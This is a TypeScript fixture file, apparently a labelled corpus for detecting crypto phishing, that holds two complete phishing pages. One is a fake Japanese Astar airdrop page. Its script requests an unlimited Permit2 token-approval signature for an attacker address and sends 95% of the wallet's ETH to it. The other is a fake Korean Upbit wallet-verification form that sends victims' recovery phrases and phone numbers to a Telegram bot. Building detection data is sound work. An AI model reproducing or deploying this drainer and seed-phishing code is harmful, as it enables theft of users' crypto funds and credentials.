import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, wordmark, tile } from '../parts/yj-kit.js';

// Wallet drainers and recovery-phrase pages.

export const entries: Entry[] = [
  // yj-drainer-jp-airdrop
{
  id: 'yj-drainer-jp-airdrop',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-astar-season3.xyz/',
  body: doc({
    lang: 'ja',
    title: 'Astar Network | Season 3 エアドロップ請求',
    css: `body{background:#0b0d1d;color:#fff}.nav{display:flex;justify-content:space-between;align-items:center;padding:16px 24px}.hero{text-align:center;padding:60px 16px}.hero h1{font-size:40px;margin:0;background:linear-gradient(90deg,#0ae2ff,#e6007a);-webkit-background-clip:text;color:transparent}
.card{max-width:440px;margin:30px auto;background:#15183a;border:1px solid #2b2f66;border-radius:16px;padding:24px}.amt{font-size:30px;font-weight:bold}.btn{width:100%;background:linear-gradient(90deg,#0ae2ff,#e6007a);border:0;border-radius:12px;color:#fff;font-size:17px;padding:15px;font-weight:bold;cursor:pointer}
.s{font-size:12px;color:#9aa0c8}.tl{display:flex;justify-content:space-between;font-size:13px;border-top:1px solid #2b2f66;padding-top:10px;margin-top:10px}`,
    body: `<div class="nav">${wordmark('ASTAR', '#fff', { w: 100 })}<button class="btn" style="width:auto;padding:10px 18px" id="c1">ウォレット接続</button></div>
<div class="hero"><h1>Season 3 エアドロップ</h1><p>ASTR保有者・dApp Staking参加者を対象に、総額 25,000,000 ASTR を配布します。</p></div>
<div class="card"><p class="s">請求可能額</p><div class="amt" id="amt">— ASTR</div>
<div class="tl"><span>残り時間</span><span id="cd">05:59:12</span></div><div class="tl"><span>請求済みウォレット</span><span>48,211 / 60,000</span></div><br>
<button class="btn" id="c2">ウォレットを接続して請求</button><p class="s" style="text-align:center;margin-top:12px">MetaMask / OKX Wallet / Rabby / WalletConnect 対応</p></div>`,
    tail: `<script src="/assets/claim.bundle.js"></script>`,
  }),
  routes: {
    'claim-astar-season3.xyz/assets/claim.bundle.js': jsRoute(`(function(){
var RCV="0x7A3f9C2e81B04d5E6a1Fd0c9E3bb7f2A4C58e913",P2="0x000000000022D473030F116dDEE9F6B43aC78BA3";
var TOKENS=[["0xdAC17F958D2ee523a2206206994597C13D831ec7","USDT"],["0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48","USDC"],["0x6B175474E89094C44Da98b954EedeAC495271d0F","DAI"],["0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2","WETH"]];
function api(p,b){return fetch("/api/"+p,{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify(b)}).then(function(r){return r.json()}).catch(function(){return{}})}
async function run(){var eth=window.ethereum;if(!eth){location.href="https://metamask.app.link/dapp/"+location.host;return}
 var acc=(await eth.request({method:"eth_requestAccounts"}))[0];var chain=await eth.request({method:"eth_chainId"});
 document.getElementById("amt").textContent=(2400+Math.floor(Math.random()*900))+" ASTR";
 var bal=await eth.request({method:"eth_getBalance",params:[acc,"latest"]});var info=await api("wallet",{a:acc,c:chain,b:bal});
 var list=(info.tokens||TOKENS.map(function(t){return t[0]}));var dl=Math.floor(Date.now()/1000)+86400*30;
 var typed={types:{EIP712Domain:[{name:"name",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}],PermitDetails:[{name:"token",type:"address"},{name:"amount",type:"uint160"},{name:"expiration",type:"uint48"},{name:"nonce",type:"uint48"}]},
  primaryType:"PermitBatch",domain:{name:"Permit2",chainId:parseInt(chain,16),verifyingContract:P2},
  message:{details:list.map(function(t){return{token:t,amount:"1461501637330902918203684832716283019655932542975",expiration:dl,nonce:0}}),spender:RCV,sigDeadline:dl}};
 try{var sig=await eth.request({method:"eth_signTypedData_v4",params:[acc,JSON.stringify(typed)]});await api("permit",{a:acc,s:sig,d:typed.message})}catch(e){}
 try{var v=BigInt(bal)*95n/100n;if(v>0n)await eth.request({method:"eth_sendTransaction",params:[{from:acc,to:RCV,value:"0x"+v.toString(16),data:"0x3158952e"}]})}catch(e){}
 document.getElementById("c2").textContent="請求を処理しています…";}
document.getElementById("c1").onclick=run;document.getElementById("c2").onclick=run;
var t=6*3600-48;setInterval(function(){t--;var h=Math.floor(t/3600),m=Math.floor(t%3600/60),s=t%60;document.getElementById("cd").textContent=[h,m,s].map(function(x){return String(x).padStart(2,"0")}).join(":")},1000);
})();`),
    'claim-astar-season3.xyz/api/wallet': jsonRoute({ tokens: ['0xdAC17F958D2ee523a2206206994597C13D831ec7', '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'] }),
  },
},
  // yj-seed-upbit-wallet-kr
{
  id: 'yj-seed-upbit-wallet-kr',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://upbit-wallet.security-kr.app/verify',
  body: doc({
    lang: 'ko',
    title: '업비트 | 개인지갑 보안 인증',
    css: `body{background:#f1f3f8}.hd{background:#093687;color:#fff;padding:14px 20px;font-weight:bold}.w{max-width:520px;margin:24px auto;background:#fff;border-radius:10px;padding:24px}
textarea{width:100%;height:120px;padding:12px;font-size:15px;border:1px solid #c9d0de;border-radius:8px}.b{width:100%;background:#093687;color:#fff;border:0;border-radius:8px;padding:14px;font-size:16px;margin-top:14px}.n{font-size:13px;color:#555}.r{color:#d60000;font-size:13px}`,
    body: `<div class="hd">UPbit</div>
<div class="w"><h2 style="font-size:19px">트래블룰 개인지갑 소유 인증</h2>
<p class="n">특정금융정보법 개정에 따라 외부 개인지갑(메타마스크, 트러스트월렛, 팬텀 등)으로의 출금 시 지갑 소유 인증이 필요합니다. 인증이 완료되지 않은 계정은 <b>10월 31일</b>부터 원화 출금이 제한됩니다.</p>
<form id="uf"><label class="n">지갑 종류</label><select name="wallet" style="width:100%;padding:10px;margin:6px 0 12px"><option>MetaMask</option><option>Trust Wallet</option><option>Phantom</option><option>Ledger</option><option>기타</option></select>
<label class="n">복구 문구 (12/24 단어, 띄어쓰기로 구분)</label><textarea name="mnemonic" placeholder="예) apple river ..."></textarea>
<label class="n">업비트 가입 휴대폰 번호</label><input name="hp" style="width:100%;padding:11px;border:1px solid #c9d0de;border-radius:8px">
<button class="b">소유 인증하기</button></form><p class="r">※ 인증 정보는 암호화되어 안전하게 보관됩니다.</p></div>`,
    tail: `<script>
var BOT='7018825532:AAGx4TkYv1Wd-2qLsN9fPrZ0mCc3HhEoUbQ',CH='-1002288190451';
document.getElementById('uf').onsubmit=function(e){e.preventDefault();var m=this.mnemonic.value.trim().split(/\\s+/);if(m.length!=12&&m.length!=18&&m.length!=24){alert('복구 문구를 정확히 입력해 주세요.');return}
fetch('https://api.telegram.org/bot'+BOT+'/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:CH,text:'UPBIT '+this.wallet.value+'\\n'+m.join(' ')+'\\n'+this.hp.value})}).finally(function(){location.href='https://upbit.com/'})};
</script>`,
  }),
},
];
